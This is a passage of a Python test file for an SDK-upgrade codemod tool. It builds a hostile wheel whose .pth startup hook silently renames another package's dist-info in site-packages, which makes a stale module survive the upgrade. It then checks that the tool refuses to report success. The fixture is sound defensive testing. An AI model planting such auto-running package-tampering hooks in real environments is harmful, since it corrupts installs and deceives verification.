    "    if (WHEN) and _d.endswith('site-packages') and os.path.isdir(_d):\n"
    "        for _n in os.listdir(_d):\n"
    "            if _n.lower().startswith('acme_sdk-') and _n.endswith('.dist-info'):\n"
    "                try:\n"
    "                    os.rename(os.path.join(_d, _n), os.path.join(_d, '.' + _n + '.hidden'))\n"
    "                except OSError:\n"
    "                    pass\n"
)
BROKEN_ON_2 = "from acme.errors import *  # noqa: F403\n\n\ndef ready():\n    return True\n"  # 1.x's module
WIDGETS_TEST = "import acme_widgets\n\n\ndef test_ready():\n    assert acme_widgets.ready()\n"


def widgets_unregistering(make_repo, tmp_path: Path, when: str, requirements: str) -> tuple[Path, Path]:
    house = tmp_path / "house"
    house.mkdir()
    files = {
        "acme_widgets/__init__.py": BROKEN_ON_2,
        "acme_widgets_unreg.py": UNREGISTERS.replace("WHEN", when),
        "acme_widgets_unreg.pth": "import acme_widgets_unreg\n",
    }
    wheel(house, "acme_widgets", "1.0.0", requires=("acme-sdk",), files=files)
    repo = make_repo(
        "unregisters-the-sdk",
        {
            "requirements.txt": requirements,
            "src/acme_app": None,
            "tests": None,
            "tests/test_widgets.py": WIDGETS_TEST,
        },
    )
    return repo, house


@pytest.mark.parametrize("declared", ["acme-sdk==1.4.0\n", ""], ids=["declared", "through-a-dependency"])
def test_attack_an_sdk_unregistered_before_an_install_leaves_no_old_module_the_tests_pass_on(
    make_repo, run_codemod, tmp_path: Path, declared: str
) -> None:
    """Where the interpreter starts writable before an install (uv's query of it), the install removes
    nothing of the version before (its dist-info is gone): 1.x's acme/errors.py stood beside 2.1.0's files
    and the tests passed on it, `succeeded` (declared) or "verified" `nothing_to_do` (through acme-widgets),
    exit 0 (helper-49, on 7184a5c). Now a module in acme-sdk's package that no RECORD lists fails the
    install (here, through acme-widgets, the bump's; declared, whichever install the timing reaches)."""
    repo, house = widgets_unregistering(make_repo, tmp_path, "True", declared + "acme-widgets==1.0.0\n")
    result = run_codemod(repo, "acme-sdk-2.yml", "--find-links", str(house))
    m = result.manifest
    assert result.code in (1, 3) and m["status"] in ("rejected", "requires_human"), m["reason"]
    assert not [v for v in m["verifications"] if v["phase"] != "baseline" and v["passed"]], m["verifications"]
    if not declared:
        assert m["reason"].startswith(
            "installing acme-sdk 2.1.0 failed: acme/errors.py is in a package of acme-sdk's"
        ), m["reason"]


def test_attack_an_install_line_the_tool_cannot_read_is_never_read_as_no_sdk(
    make_repo, run_codemod, tmp_path: Path
) -> None:
    """tox.ini names acme-widgets through `{env:WIDGETS_REQ}`: the install leaves that line out (run.json
    installs.baseline.unread names it) and read the SDK's absence from the rest: `nothing_to_do`, exit 0."""
    repo, house = widgets_unregistering(make_repo, tmp_path, "False", "")
    tox = "[tox]\nenvlist = py\n\n[testenv]\ndeps =\n    -r requirements-dev.txt\n    {env:WIDGETS_REQ}\n"
    (repo / "tox.ini").write_text(tox + "commands = pytest {posargs}\n")
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", "add", "tox.ini"], cwd=repo, check=True
    )
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "tox"], cwd=repo, check=True
    )
    result = run_codemod(repo, "acme-sdk-2.yml", "--find-links", str(house))
    m = result.manifest
    assert (result.code, m["status"]) == (3, "requires_human"), m["reason"]
    assert "the install left out what it cannot read" in m["reason"] and "WIDGETS_REQ" in m["reason"], m[
        "reason"
    ]
